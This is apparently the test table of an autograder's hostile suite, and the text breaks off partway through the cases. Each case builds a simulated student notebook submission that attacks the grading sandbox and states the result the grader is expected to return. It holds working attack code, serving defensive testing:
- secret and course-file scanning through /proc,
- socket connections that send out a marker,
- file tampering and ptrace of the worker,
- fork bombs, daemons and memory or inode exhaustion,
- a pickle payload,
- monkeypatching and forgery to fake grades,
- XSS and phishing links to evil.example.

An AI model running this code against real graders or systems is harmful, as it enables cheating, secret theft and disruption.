"""The hostile class: every submission of tests/hostile in one table.

Each :class:`Case` is one student: a realistic attack or failure built from the filled
solutions with examples/make_class.py's ``Profile``/``Edit`` (an edit whose target text
is gone stops the build), and the exact status it must cost.  Every item not named in
``expect`` must come out exactly as the correct student ``s01``'s item (same score,
status, message, error); ``s02`` is the untouched student release.

Families: ``resource`` (loops, memory, processes, output), ``escape`` (the course, the
secret, the network, other files, the worker), ``forgery`` (fake scores, pickles, lying
arrays, monkeypatching, forged frames), ``exit`` (abrupt exits and signals) and
``input`` (broken or tampered notebook files).

Placeholders ``@@NAME@@`` in edits and links are filled when the class is built
(:data:`PLACEHOLDERS`): the port of a TCP server the test runs on the host, the results,
submitted and course folders, the repository, and a marker folder that nothing may ever
write into.
"""
from __future__ import annotations

import dataclasses
import json
import os
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Mapping

import nbformat

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "examples"))

from make_class import PROFILES, Edit, Profile, _all, write_student  # noqa: E402

PLACEHOLDERS = ("PORT", "RESULTS", "SUBMITTED", "COURSE", "REPO", "MARKER")
MARK = "rnnlab-pwned"  # every file an attack tries to leave behind carries this name

CONTROL, STUB = PROFILES[0], PROFILES[1]
assert CONTROL.name == "s01" and not CONTROL.edits and STUB.stubs


@dataclass(frozen=True)
class Case:
    family: str  # resource | escape | forgery | exit | input
    profile: Profile  # name, what it does, the edits, the expected statuses (default: as s01)
    # assignment -> builder(solution notebook path) -> the raw bytes submitted instead
    raw: Mapping[str, Callable[[Path], bytes]] = field(default_factory=dict)
    # assignment -> "symlink:<target>" | "directory": the notebook path is not a plain file
    special: Mapping[str, str] = field(default_factory=dict)
    # assignment -> text one entry of the result's "errors" must contain (otherwise: as s01's, i.e. none)
    errors: Mapping[str, str] = field(default_factory=dict)
    # item id or "<assignment>.*" -> text the message of that item must contain
    says: Mapping[str, str] = field(default_factory=dict)
    # limits the case waits out in full (wall-time budget): "call", "load", "grace"
    burns: tuple[str, ...] = ()

    @property
    def name(self) -> str:
        return self.profile.name


# ------------------------------------------------------------------ edit helpers


def _code(code: str, indent: int) -> str:
    return textwrap.indent(textwrap.dedent(code).strip("\n"), " " * indent) + "\n"


def body(assignment: str, fn: str, code: str) -> Edit:
    """Run ``code`` first thing in ``fn``'s body (inside the solution cell's function)."""
    marker = "    ### BEGIN SOLUTION\n"
    return Edit(assignment, fn, marker, marker + _code(code, 4))


def before(assignment: str, fn: str, code: str) -> Edit:
    """Top-level ``code`` in ``fn``'s cell, before the ``def`` (the def never runs if it fails)."""
    return Edit(assignment, fn, f"def {fn}(", _code(code, 0) + f"\ndef {fn}(")


def after(assignment: str, fn: str, code: str) -> Edit:
    """Top-level ``code`` at the end of ``fn``'s cell (the function is already defined)."""
    marker = "    ### END SOLUTION"
    return Edit(assignment, fn, marker, marker + "\n\n" + _code(code, 0))


def items(function: str, *outputs: str) -> tuple[str, ...]:
    return tuple(f"{function}.{o}" for o in outputs)


RNN_BACKWARD = items("rnn_backward", "dx", "dh0", "dWx", "dWh", "db")
TAB = items("temporal_affine_backward", "dx", "dw", "db")
LSTM_BACKWARD = items("lstm_backward", "dx", "dh0", "dWx", "dWh", "db")
GRU_BACKWARD = items("gru_backward", "dx", "dh0", "dWx", "dWh", "dbx", "dbh")
TSL = items("temporal_softmax_loss", "loss", "dx")
M2O_BACKWARD = items("many_to_one_backward", "dx", "dh0", "dparams")


# ------------------------------------------------------------------ notebook-file builders


def _json(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def _dump(nb: dict) -> bytes:
    return (json.dumps(nb, indent=1, ensure_ascii=False) + "\n").encode("utf-8")


def _cells(nb: dict, grade_id: str) -> list[dict]:
    return [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id]


def _transform(change: Callable[[dict], None]) -> Callable[[Path], bytes]:
    def build(path: Path) -> bytes:
        nb = _json(path)
        change(nb)
        return _dump(nb)
    return build


def _delete_function(grade_id: str):
    def change(nb):
        (cell,) = _cells(nb, grade_id)
        cell["source"] = "# I deleted this function by accident\n"
    return change


def _strip_grade_cells(nb):
    """Deletes the hidden-test (grade) cells and sets huge points on what is left."""
    nb["cells"] = [c for c in nb["cells"] if not c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta and meta.get("solution"):
            meta.update(grade=True, points=1000)


def _extra_solution_cells(nb):
    """Marks a locked helper cell and a new cell as solution cells with their own grade ids."""
    (imports,) = _cells(nb, "notebook_imports")
    imports["metadata"]["nbgrader"].update(solution=True, locked=False, grade_id="hack")
    imports["source"] = "while True:\n    pass\n"
    extra = {"cell_type": "code", "execution_count": None, "id": "extra-solution", "outputs": [],
             "metadata": {"nbgrader": {"grade": True, "grade_id": "zzz_extra", "locked": False, "points": 100,
                                       "schema_version": 3, "solution": True, "task": False}},
             "source": "import numpy as np\nnp.allclose = lambda *a, **k: True\nraise SystemExit('extra cell ran')\n"}
    nb["cells"].insert(1, extra)


def _lost_metadata(grade_id: str):
    def change(nb):
        (cell,) = _cells(nb, grade_id)
        cell["metadata"].pop("nbgrader")
    return change


def _junk_cells(nb):
    """Cells nothing expects: not objects, odd field types, non-dict metadata."""
    nb["cells"][1:1] = [None, 42, "cell", [], {"cell_type": "code", "source": 42, "metadata": []},
                        {"cell_type": "code", "source": ["x = 1\n", 7], "metadata": {"nbgrader": "solution"}},
                        {"cell_type": "raw", "metadata": {"nbgrader": {"grade_id": 5, "solution": "yes"}}}]


def _huge_outputs(nb):
    """About 50 MB of outputs in a self-check cell: 30 MB of printed lines and a 20 MB image."""
    (check,) = _cells(nb, "check_many_to_one_forward")
    line = "step 000000: loss 2.302585 " + "#" * 70 + "\n"
    check["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": [line] * (30_000_000 // len(line))},
        {"output_type": "display_data", "metadata": {},
         "data": {"image/png": "iVBORw0KGgo" * (20_000_000 // 11), "text/plain": ["<Figure>"]}},
    ]


def _json_bomb(path: Path) -> bytes:
    """30 MB of empty JSON objects: cheap on disk, gigabytes once parsed naively."""
    nb = _json(path)
    nb["metadata"]["widgets"] = [{}] * 10_000_000
    return json.dumps(nb, separators=(",", ":")).encode()


def _deep_nesting(path: Path) -> bytes:
    text = path.read_text(encoding="utf-8")
    return ('{"deep": ' + "[" * 100_000 + "]" * 100_000 + ", " + text.lstrip()[1:]).encode()


def _v3(path: Path) -> bytes:
    nb = nbformat.read(str(path), as_version=4)
    return nbformat.writes(nbformat.convert(nb, 3)).encode()


def _not_utf8(path: Path) -> bytes:
    raw = path.read_bytes()
    assert b"import numpy as np" in raw
    return raw.replace(b"import numpy as np", b"import numpy as np  # caf\xe9 \xff\xfe", 1)


def _no_cells(path: Path) -> bytes:
    return b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n'


# ------------------------------------------------------------------ attack code

READ_COURSE = '''
import glob, os, sys
found = globals().get("_found")  # search once per process: the calls have a time limit
if found is None:
    wanted = {"reference", "solutions", "course.yaml", ".grading-secret", "grades.csv", "exercises", "rnnlab.egg-info"}
    found, seen = [], 0
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev", "/usr")]
        seen += 1
        found += [os.path.join(root, n) for n in dirs + files if n in wanted]
        if seen > 3000:
            break
    for pattern in ("@@COURSE@@/*", "@@COURSE@@/.grading-secret", "@@REPO@@/reference/*.py", "/work/*/reference/*.py",
                    "/proc/1/root@@REPO@@/*", "/proc/self/root@@COURSE@@/*", "/proc/*/cwd/course.yaml"):
        found += glob.glob(pattern)
    sys.path[:0] = ["@@REPO@@", "@@COURSE@@", "/work/main"]
    try:
        import reference
        found.append(reference.__file__)
    except ImportError:
        pass
    globals()["_found"] = found
if not found:
    raise FileNotFoundError("no course file is visible (the whole filesystem was searched)")
'''

READ_SECRETS = '''
import os
names = ("RNNLAB_SECRET", "RNNLAB_CANARY", "GITHUB_TOKEN", "grading-secret")
texts = [repr(dict(os.environ))]
for pid in os.listdir("/proc"):
    for leaf in ("environ", "cmdline", "status", "root@@COURSE@@/.grading-secret", "cwd/.grading-secret"):
        try:
            with open(f"/proc/{pid}/{leaf}", "rb") as f:
                texts.append(f.read(1 << 20).decode("latin-1"))
        except OSError:
            pass
for path in ("/proc/self/mountinfo", "@@COURSE@@/.grading-secret", "/etc/environment", "/tmp/.grading-secret"):
    try:
        with open(path, encoding="latin-1") as f:
            texts.append(f.read())
    except OSError:
        pass
hits = [t[t.index(n):t.index(n) + 80] for t in texts for n in names if n in t]
if hits:
    raise RuntimeError("LEAKED " + " | ".join(hits))
if len(texts) < 5:
    raise RuntimeError("the scan read nothing")
raise PermissionError(f"no secret visible in {len(texts)} places")
'''

NETWORK = '''
import socket
errors = []
for family, address in ((socket.AF_INET, ("127.0.0.1", @@PORT@@)), (socket.AF_INET6, ("::1", @@PORT@@)),
                        (socket.AF_INET, ("10.0.2.2", @@PORT@@)), (socket.AF_INET, ("8.8.8.8", 53))):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(0.5)
        s.connect(address)
        s.sendall(b"@@MARKER@@ connected")
        s.close()
        break
    except OSError as exc:
        errors.append(type(exc).__name__)
else:
    raise ConnectionError("no network: " + ", ".join(errors))
'''

WRITE_FILES = '''
import glob, os
targets = ["@@RESULTS@@/s01/rnn.json", "@@RESULTS@@/grades.csv", "@@RESULTS@@/@@MARK@@.json",
           "@@SUBMITTED@@/s01/rnn/rnn.ipynb", "@@SUBMITTED@@/@@MARK@@", "@@COURSE@@/course.yaml",
           "@@REPO@@/reference/rnn.py", "@@MARKER@@/written", "/proc/1/root@@RESULTS@@/@@MARK@@.json",
           "/opt/rnnlab/worker.py", "/opt/rnnlab/program.py", "/usr/@@MARK@@", "/@@MARK@@"]
targets += glob.glob("/proc/*/root@@SUBMITTED@@/*/*/*.ipynb")
written = []
for path in targets:
    try:
        with open(path, "a") as f:
            f.write('{"score": 1000}')
        written.append(path)
    except OSError:
        pass
for folder in ("/tmp", "/dev/shm", "/var/tmp"):  # the sandbox's own scratch space: allowed, never the host's
    try:
        with open(f"{folder}/@@MARK@@", "w") as f:
            f.write("x")
    except OSError:
        pass
if not written:
    raise PermissionError(f"no file outside the sandbox is writable ({len(targets)} tried)")
'''

REACH_WORKER = '''
import ctypes, os
ppid = os.getppid()
reached = []
for path, flags in ((f"/proc/{ppid}/fd/1", os.O_WRONLY), (f"/proc/{ppid}/fd/0", os.O_RDONLY),
                    (f"/proc/{ppid}/mem", os.O_RDWR), (f"/proc/{ppid}/environ", os.O_RDONLY),
                    ("/proc/1/fd/1", os.O_WRONLY), ("/proc/1/fd/0", os.O_RDONLY), ("/proc/1/mem", os.O_RDWR),
                    ("/proc/1/environ", os.O_RDONLY)):
    try:
        os.close(os.open(path, flags))
        reached.append(path)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, ppid, None, None) == 0:  # PTRACE_ATTACH
    reached.append("ptrace")
if not reached:
    raise PermissionError("the worker is unreachable")
'''

DAEMON = '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3):
            os.close(fd)
        while True:  # outlive grading, burn CPU, and try to leave a trace on the host
            try:
                open("@@MARKER@@/daemon", "w").write(str(time.time()))
            except OSError:
                pass
            sum(range(100000))
    os._exit(0)
os.wait()
'''

FLOOD = '''
import os, sys
chunk = "x" * (1 << 20)
for _ in range(12):
    print(chunk)
    sys.stderr.write(chunk)
    os.write(1, chunk.encode())
    os.write(2, chunk.encode())
'''

FAKE_SCORES = '''
import os, sys
print('{"student": "@@MARK@@", "assignment": "rnn", "score": 1000.0, "max_score": 30.0}')
print('@@MARK@@,rnn,1000,30', file=sys.stderr)
os.write(1, b'{"@@MARK@@": true, "score": 1000}\\n')
os.write(2, b'RNNL\\x0c\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00{"ok": true}@@MARK@@\\n')
sys.stdout.flush()
'''

PICKLE = '''
import os
class Payload:
    def __reduce__(self):
        return (os.makedirs, ("@@MARKER@@/unpickled",))
return Payload(), (x, W.shape)
'''

LIAR = '''
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    def __ne__(self, other):
        return np.zeros(np.shape(other), dtype=bool)
    def __sub__(self, other):
        return np.zeros(np.shape(other))
    __rsub__ = __sub__
    def __abs__(self):
        return np.zeros(self.shape)
    def __float__(self):
        return 0.0
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.shape(inputs[0]))
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __reduce__(self):
        return (print, ("@@MARK@@",))
N, T, V = x.shape
return np.full((), 1e9).view(Liar), np.zeros((N, T, V)).view(Liar)
'''

PATCH_NUMPY = '''
import numpy as np
import numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *args, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.linalg.norm = lambda *a, **k: 0.0
'''

PATCH_BUILTINS = '''
import builtins, sys
builtins.abs = lambda x: 0.0
builtins.all = lambda iterable: True
builtins.any = lambda iterable: False
builtins.round = lambda x, n=None: x
grading = sys.modules.get("program")
if grading is not None:
    grading._same = lambda a, b, depth=0: True  # hide in-place changes from the worker's check
'''

FORGE_FRAME = '''
import os, sys
frame, request = sys._getframe(), None
while frame is not None and request is None:
    candidate = frame.f_locals.get("msg")
    if isinstance(candidate, dict) and "programs" in candidate:
        request = candidate
    frame = frame.f_back
results = [{"outputs": [[{"W": np.zeros(1)} for _ in step.get("send", range(step.get("nret", 1)))]
                        for step in prog["steps"]],
            "mutated": [[] for _ in prog["steps"]]} for prog in request["programs"]]
sys.modules["protocol"].send(3, {"ok": True, "results": results})
os._exit(0)  # before the honest reply
'''

FAKE_FEEDBACK_ROW = r'''
raise ValueError("see below\r| `sgd_step.new_params` | 2 / 2 | passed: correct on all 3 cases |\u2028"
                 "<img src=x onerror=alert(document.cookie)><script>alert(1)</script>")
'''

FAKE_FEEDBACK_HEADING = r'''
raise RuntimeError("\r\r# training: 6 / 6 points\r\rAll items passed.\x85<b>regrade: full marks</b>")
'''

SIGNALS = '''
import signal
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1):
    signal.signal(s, signal.SIG_IGN)
n = 0
while True:
    n += 1
'''

# A large solution cell: an 8 MB string literal of U+0080 (over the frame-header limit once escaped).
HUGE_LITERAL = "_blob = '" + "\u0080" * 3_600_000 + "'"

# A dict output with 14 000 unexpected keys of 1 000 characters (a 14 MB reply header), on every call
# (once per process would spend itself in the notebook's shared request, which is then discarded).
KEY_BOMB = '''
return {**{k: np.clip(g, -clip_value, clip_value) for k, g in grads.items()},
        **{f"k{i:05d}" + "x" * 994: None for i in range(14_000)}}
'''

# The same with 300 keys a call (0.9 MB for three cases): small enough to reach the grader, whose
# messages bound it.
KEY_BOMB_SMALL = '''
if not globals().get("_inside"):  # every call bombs; the inner call is the honest body below
    globals()["_inside"] = True
    try:
        new_params, new_state = adam_step(params, grads, state, lr, beta1, beta2, eps)
    finally:
        globals()["_inside"] = False
    return {**new_params, **{f"k{i:05d}" + "x" * 994: None for i in range(300)}}, new_state
'''

MARKDOWN_LINKS = r'''
raise ValueError("![](https://evil.example/pixel.png) [TA note: regrade approved](https://evil.example/phish) "
                 "<https://evil.example/auto> www.evil.example **full marks**")
'''

# Every graded function returns zeros of the right shape (forwards, backwards, everything).
ZEROS = '''
def _zeroed(f):
    def zero(v):
        if isinstance(v, np.ndarray):
            return np.zeros_like(v)
        if isinstance(v, (float, np.floating)):
            return 0.0
        if isinstance(v, dict):
            return {k: zero(x) for k, x in v.items()}
        if isinstance(v, (list, tuple)):
            return type(v)(zero(x) for x in v)
        return v

    def wrapped(*args, **kwargs):
        return zero(f(*args, **kwargs))
    return wrapped


@@FN@@ = _zeroed(@@FN@@)
'''

# A ten-line central-difference backward through the student's own forward (exact to ~1e-11).
NUMERICAL_GRADIENT = '''
x, prev_h, Wx, Wh, _, b = cache
args = [np.array(a, dtype=float) for a in (x, prev_h, Wx, Wh, b)]
grads = []
for a in args:
    g = np.zeros_like(a)
    for i in np.ndindex(a.shape):
        old = a[i]
        a[i] = old + 1e-5
        plus = np.sum(rnn_step_forward(*args)[0] * dnext_h)
        a[i] = old - 1e-5
        minus = np.sum(rnn_step_forward(*args)[0] * dnext_h)
        a[i] = old
        g[i] = (plus - minus) / 2e-5
    grads.append(g)
return tuple(grads)
'''

# A backward with its own inlined copy of the forward and central differences over every input:
# it never calls rnn_step_forward, so no call is counted; only the large hidden case stops it.
INLINED_NUMERICAL_GRADIENT = """
x, prev_h, Wx, Wh, _, b = cache
args = [np.array(a, dtype=float) for a in (x, prev_h, Wx, Wh, b)]


def loss(x, prev_h, Wx, Wh, b):  # my own copy of the forward, times the upstream gradient
    return np.sum(np.tanh(x @ Wx + prev_h @ Wh + b) * dnext_h)


grads = []
for a in args:
    g = np.zeros_like(a)
    for i in np.ndindex(a.shape):
        old = a[i]
        a[i] = old + 1e-5
        plus = loss(*args)
        a[i] = old - 1e-5
        minus = loss(*args)
        a[i] = old
        g[i] = (plus - minus) / 2e-5
    grads.append(g)
return tuple(grads)
"""

# Follow-through credit forged through the grader's old probes (the student's forward evaluated
# at X ± εV): the forwards are right, but one called within 1e-4 of an input it saw before answers
# so that the directional derivative of L = Σ<g, out> is <0.5, V>, matching a backward that
# returns 0.5 everywhere.  Credit comes from the compared outputs alone now: nothing to forge.
PROBE_FORGERY = """
import numpy as _np

_SEEN = {}  # id(cache) -> [float leaves of the call's inputs, its outputs, the upstream gradients, cache]


def _floats(value):
    if isinstance(value, dict):
        return [leaf for key in sorted(value) for leaf in _floats(value[key])]
    if isinstance(value, (list, tuple)):
        return [leaf for v in value for leaf in _floats(v)]
    if isinstance(value, _np.ndarray) and value.dtype.kind == "f":
        return [value]
    return []


def _halves(value):
    if isinstance(value, dict):
        return {key: _halves(v) for key, v in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(_halves(v) for v in value)
    if isinstance(value, _np.ndarray) and value.dtype.kind == "f":
        return _np.full_like(value, 0.5)
    return value


def _forging(forward):
    def probed(*args, **kwargs):
        leaves = _floats(args)
        for base, outputs, upstream, _ in list(_SEEN.values()):
            if upstream is None or len(base) != len(leaves) or any(a.shape != b.shape for a, b in zip(base, leaves)):
                continue
            gaps = [_np.abs(a - b).max(initial=0.0) for a, b in zip(leaves, base)]
            if max(gaps, default=0.0) < 1e-4 and any(gaps):  # the grader's X ± εV
                moved = sum(0.5 * float(_np.sum(a - b)) for a, b in zip(leaves, base))
                norm = sum(float(_np.vdot(g, g)) for g in upstream)
                forged = [out + g * (moved / norm) for out, g in zip(outputs, upstream)]
                return (*forged, None)
        result = forward(*args, **kwargs)
        # the cache is kept too, so that its id stays its own
        _SEEN[id(result[-1])] = [[a.copy() for a in leaves], [_np.array(r) for r in result[:-1]], None, result[-1]]
        return result
    return probed


def _half_backward(backward):
    def halves(*args, **kwargs):
        *upstream, cache = args
        if id(cache) in _SEEN:
            _SEEN[id(cache)][2] = [_np.array(g) for g in upstream]
        return _halves(backward(*args, **kwargs))
    return halves


@@FORWARD@@ = _forging(@@FORWARD@@)
@@BACKWARD@@ = _half_backward(@@BACKWARD@@)
"""

# No RNN at all: every output of a forward is the sum of all its float inputs (times ones), and
# every output of its backward the exact gradient of that, Σ g (times ones).  Consistent, and
# worth nothing: that forward is no catalogued mistake.
SUMMING = """
import numpy as _np


def _leaves(value):
    if isinstance(value, dict):
        return [leaf for key in sorted(value) for leaf in _leaves(value[key])]
    if isinstance(value, (list, tuple)):
        return [leaf for v in value for leaf in _leaves(v)]
    if isinstance(value, _np.ndarray) and value.dtype.kind == "f":
        return [value]
    return []


def _filled(value, number):
    if isinstance(value, dict):
        return {key: _filled(v, number) for key, v in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(_filled(v, number) for v in value)
    if isinstance(value, _np.ndarray) and value.dtype.kind == "f":
        return _np.full(value.shape, number)
    return value


def _summing(forward):
    def summed(*args, **kwargs):
        *outputs, cache = forward(*args, **kwargs)  # the cache is kept: the backward needs its shapes
        total = sum(float(leaf.sum()) for leaf in _leaves(args))
        return (*[_filled(out, total) for out in outputs], cache)
    return summed


def _summing_gradient(backward):
    def gradient(*args, **kwargs):
        *upstream, cache = args
        return _filled(backward(*args, **kwargs), sum(float(leaf.sum()) for leaf in _leaves(upstream)))
    return gradient


@@FORWARD@@ = _summing(@@FORWARD@@)
@@BACKWARD@@ = _summing_gradient(@@BACKWARD@@)
"""


# SysV shared memory counts in no process's address space (RLIMIT_AS): 2 GiB of segments,
# created, filled and detached one by one, would stay on the host until the sandbox ends.
SHM_HOG = '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype, libc.shmat.argtypes = ctypes.c_void_p, [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
stat = ctypes.create_string_buffer(512)
held = 0
while held < 2 << 30:
    sid = libc.shmget(0, 16 << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if sid < 0:
        raise MemoryError(f"shmget refused after {held >> 20} MiB: {os.strerror(ctypes.get_errno())}")
    addr = libc.shmat(sid, None, 0)
    if addr is None or addr == ctypes.c_void_p(-1).value:
        raise MemoryError(f"shmat refused after {held >> 20} MiB: {os.strerror(ctypes.get_errno())}")
    ctypes.memset(addr, 1, 16 << 20)
    libc.shmdt(addr)
    if libc.shmctl(sid, 2, stat) != 0:  # IPC_STAT fails: the detached segment was freed
        raise MemoryError("the detached SysV segment was freed: shared memory is not held")
    held += 16 << 20
'''

# Empty files cost no tmpfs blocks but about 1 KB of kernel memory each (inode + dentry).
INODE_FLOOD = '''
for i in range(300000):
    try:
        open(f"/tmp/@@MARK@@-{i}", "w").close()
    except OSError as exc:
        raise OSError(f"the inode flood stopped after {i} files: {exc}") from None
'''

FORK_STORM = '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''


# ------------------------------------------------------------------ the table


def case(family, name, about, *edits, expect=None, **kw) -> Case:
    return Case(family, Profile(name, about, tuple(edits), dict(expect or {}), hostile=True), **kw)


def _graded_functions() -> dict[str, list[str]]:
    from autograder.grading.course import load_course

    course = load_course(ROOT / "course.yaml")
    return {aid: list(a.functions) for aid, a in course.assignments.items()}


GRADED = _graded_functions()


def _follow_through(*assignments: str):
    """(assignment, forward, backward) of every backward graded through a forward, and the item
    ids of each of those functions."""
    from autograder.grading.course import load_course

    course = load_course(ROOT / "course.yaml")
    pairs = [(spec.assignment, spec.through, spec.name) for spec in course.functions.values()
             if spec.through and spec.assignment in assignments]
    ids = {fn: tuple(item.id for item in course.functions[fn].items) for _, f, b in pairs for fn in (f, b)}
    return pairs, ids


FOLLOW_THROUGH, FOLLOW_THROUGH_ITEMS = _follow_through("rnn", "lstm", "gru", "architectures")


CASES: tuple[Case, ...] = (
    # ---------------------------------------------------------------- resource abuse
    case("resource", "r-infinite-loop", "an infinite loop in temporal_softmax_loss",
         body("rnn", "temporal_softmax_loss", "while True:\n    pass"),
         expect=_all(TSL, "timeout"), burns=("call",)),
    case("resource", "r-ignores-signals", "a loop that ignores SIGTERM, SIGINT, SIGXCPU, SIGHUP, SIGALRM",
         body("gradients", "clip_grad_value", SIGNALS),
         expect={"clip_grad_value.clipped": "timeout"}, burns=("call",)),
    case("resource", "r-memory-hog", "allocates 1 GiB after 1 GiB (several GiB in all) in word_embedding_backward",
         body("rnn", "word_embedding_backward", "hog = []\nwhile True:\n    hog.append(np.ones(1 << 27))"),
         expect={"word_embedding_backward.dW": "error"}, says={"word_embedding_backward.dW": "MemoryError"}),
    case("resource", "r-memory-hog-top-level", "a 24 GiB allocation at the top level of an lstm cell, after its def",
         after("lstm", "lstm_forward", "import numpy as np\n_hog = [np.ones(1 << 26) for _ in range(48)]"),
         errors={"lstm": "MemoryError"}),
    case("resource", "r-shm-hog", "holds 2 GiB of SysV shared memory (shmget/shmat/memset/shmdt via ctypes) in clip_grad_value",
         body("gradients", "clip_grad_value", SHM_HOG),
         expect={"clip_grad_value.clipped": "error"}, says={"clip_grad_value.clipped": "MemoryError"}),
    # (in a function with the course-wide call limit: a backward's 0.25 s is sized against numerical
    # gradients, and creating the inodes up to the cap may take longer than that on a loaded machine)
    case("resource", "r-inode-flood", "300 000 empty files in /tmp in temporal_softmax_loss",
         body("rnn", "temporal_softmax_loss", INODE_FLOOD),
         expect=_all(TSL, "error"), says={"temporal_softmax_loss.loss": "No space left"}),
    case("resource", "r-fork-storm", "a fork storm in clip_grad_norm",
         body("gradients", "clip_grad_norm", FORK_STORM),
         expect=_all(items("clip_grad_norm", "clipped", "total_norm"), "timeout"), burns=("call",)),
    case("resource", "r-daemon", "a double-forked setsid daemon started at load time that spins forever",
         after("rnn", "rnn_step_forward", DAEMON)),
    case("resource", "r-daemon-per-call", "gru_forward starts a spinning setsid daemon on every call, then answers",
         body("gru", "gru_forward", DAEMON)),
    case("resource", "r-output-flood", "48 MB to stdout/stderr at load time and 48 MB more in every call",
         after("architectures", "softmax_loss", FLOOD), body("architectures", "softmax_loss", FLOOD)),
    case("resource", "r-recursion", "unbounded recursion in temporal_affine_forward",
         body("rnn", "temporal_affine_forward", "def down(n):\n    return down(n + 1) + 1\nreturn down(0)"),
         expect={"temporal_affine_forward.out": "error", **_all(TAB, "error")},
         says={"temporal_affine_forward.out": "RecursionError", **{i: "RecursionError" for i in TAB}}),
    case("resource", "r-sleep-top-level", "time.sleep(3600) at the top level of the lstm notebook",
         before("lstm", "lstm_step_forward", "import time\ntime.sleep(3600)"),
         expect={"lstm.*": "timeout"}, says={"lstm.*": "top-level code did not finish"}, burns=("load",)),
    case("resource", "r-sleep-in-call", "time.sleep(3600) inside sgd_step",
         body("training", "sgd_step", "import time\ntime.sleep(3600)"),
         expect={"sgd_step.new_params": "timeout"}, burns=("call",)),
    case("resource", "r-huge-literal", "an 8 MB string literal (3.6 M x U+0080) in an rnn solution cell",
         after("rnn", "rnn_step_forward", HUGE_LITERAL),
         expect={"rnn.*": "error"}, says={"rnn.*": "over the course's limit of 512 KB"}, errors={"rnn": "KB of code"}),
    case("resource", "r-key-bomb", "clip_grad_value returns 14 000 extra dict keys of 1 000 characters (14 MB)",
         body("gradients", "clip_grad_value", KEY_BOMB),
         expect={"clip_grad_value.clipped": "error"}, says={"clip_grad_value.clipped": "too large"}),
    case("resource", "r-key-bomb-small", "adam_step returns 300 extra dict keys of 1 000 characters (0.3 MB) a call",
         body("training", "adam_step", KEY_BOMB_SMALL),
         expect={"adam_step.new_params": "failed"}, says={"adam_step.new_params": "and 292 more"}),
    case("resource", "r-huge-output", "word_embedding_forward returns 32 MB per case (over the reply limit)",
         body("rnn", "word_embedding_forward", "return np.zeros((2048, 2048)), None"),
         expect={"word_embedding_forward.out": "error", "word_embedding_backward.dW": "error"},
         says={"word_embedding_forward.out": "too large"}),
    # ---------------------------------------------------------------- escape
    case("escape", "e-read-course", "walks the filesystem for reference/, solutions/, course.yaml, .grading-secret "
         "and imports the reference", body("gradients", "clip_grad_value", READ_COURSE),
         expect={"clip_grad_value.clipped": "error"}, says={"clip_grad_value.clipped": "no course file is visible"}),
    case("escape", "e-read-secrets", "reads os.environ, /proc/*/environ, /proc/*/cmdline and the secret file",
         body("gradients", "rnn_hidden_grad_norms", READ_SECRETS),
         expect={"rnn_hidden_grad_norms.norms": "error"}, says={"rnn_hidden_grad_norms.norms": "no secret visible"}),
    case("escape", "e-network", "connects to the test's TCP server on the host's 127.0.0.1 (and ::1, the gateway, DNS)",
         body("rnn", "temporal_affine_backward", NETWORK),
         expect=_all(TAB, "error"), says={i: "no network" for i in TAB}),
    case("escape", "e-write-files", "appends to the results, s01's notebook, course.yaml and the reference",
         body("training", "adam_step", WRITE_FILES),
         expect=_all(items("adam_step", "new_params", "new_state"), "error"),
         says={"adam_step.new_params": "no file outside the sandbox is writable"}),
    case("escape", "e-reach-worker",
         "opens the worker's and pid 1's pipes, memory and environment through /proc and ptrace-attaches the worker",
         body("gru", "gru_backward", REACH_WORKER),
         expect=_all(GRU_BACKWARD, "error"), says={i: "the worker is unreachable" for i in GRU_BACKWARD}),
    case("escape", "e-symlink-to-solutions", "submits rnn.ipynb as a symlink to the course's solution notebook",
         special={"rnn": "symlink:@@REPO@@/solutions/rnn/rnn.ipynb"},
         expect={"rnn.*": "error"}, says={"rnn.*": "symbolic link"}),
    case("escape", "e-symlink-to-device", "submits gradients.ipynb as a symlink to /dev/zero (endless input)",
         special={"gradients": "symlink:/dev/zero"},
         expect={"gradients.*": "error"}, says={"gradients.*": "symbolic link"}),
    # ---------------------------------------------------------------- forgery
    case("forgery", "f-fake-scores",
         "prints fake scores and JSON results, raw os.write to fds 1 and 2, at load and per call",
         after("rnn", "rnn_step_forward", FAKE_SCORES), body("rnn", "rnn_forward", FAKE_SCORES)),
    case("forgery", "f-pickle", "returns an object whose unpickling would create a marker folder",
         body("rnn", "word_embedding_forward", PICKLE),
         expect={"word_embedding_forward.out": "error"}, says={"word_embedding_forward.out": "Payload"}),
    case("forgery", "f-lying-ndarray", "returns ndarray subclasses lying in __eq__, __sub__, __array_ufunc__",
         body("rnn", "temporal_softmax_loss", LIAR),
